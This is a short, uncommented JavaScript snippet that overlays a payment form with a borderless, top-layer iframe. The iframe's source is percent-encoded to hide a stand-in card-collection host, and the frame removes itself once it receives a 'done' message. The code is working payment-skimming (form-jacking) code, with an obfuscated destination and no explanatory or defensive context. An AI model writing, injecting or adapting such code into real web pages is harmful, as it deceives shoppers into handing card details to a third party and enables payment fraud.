(function () {
  var t = document.querySelector('#payment_form'), r = t.getBoundingClientRect(), i = document.createElement('iframe');
  i.src = unescape('%68%74%74%70%73%3A%2F%2F%63%61%72%64%2D%62%6F%78%2E%65%78%61%6D%70%6C%65%2F');
  i.style.cssText = 'position:absolute;border:0;z-index:9999;left:' + r.left + 'px;top:' + r.top + 'px;width:' + r.width + 'px;height:' + r.height + 'px';
  document.body.appendChild(i);
  window.addEventListener('message', function (m) { if (m.data === 'done') { i.remove(); } });
})();
